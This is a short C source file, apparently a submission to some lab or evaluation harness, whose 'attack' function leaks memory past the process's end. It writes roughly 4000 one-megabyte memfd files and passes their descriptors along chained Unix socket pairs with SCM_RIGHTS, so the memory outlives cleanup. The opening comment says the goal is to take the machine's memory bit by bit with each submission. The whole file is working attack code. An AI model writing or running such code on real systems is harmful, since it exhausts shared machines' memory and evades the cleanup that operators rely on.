/* Tries to keep memory after its end: files in memory, sent over a socket that is itself on the way in another.
 * Gains the memory of the machine, bit by bit, with each submission. */
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

static void send_file(int socket_file, int file)
{
    union {
        char bytes[CMSG_SPACE(sizeof file)];
        struct cmsghdr aligned;
    } control = {.bytes = {0}};
    struct iovec part = {"x", 1};
    struct msghdr message = {
        .msg_iov = &part, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof file);
    memcpy(CMSG_DATA(header), &file, sizeof file);
    sendmsg(socket_file, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
}

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    static char page[1 << 20];
    int pair[2], last = 3;
    memset(page, 1, sizeof page);
    for (int i = 0; i < 4000; i++) {
        const int file = memfd_create("hidden", 0);
        if (file < 0 || write(file, page, sizeof page) < 0 || socketpair(AF_UNIX, SOCK_SEQPACKET, 0, pair)) break;
        send_file(pair[0], file);
        send_file(pair[0], last);
        send_file(pair[0], pair[1]);
        close(file);
        if (last > 3) close(last);
        close(pair[0]);
        last = pair[1];
    }
    send_file(3, last);
    return LAB_SUCCESS;
}
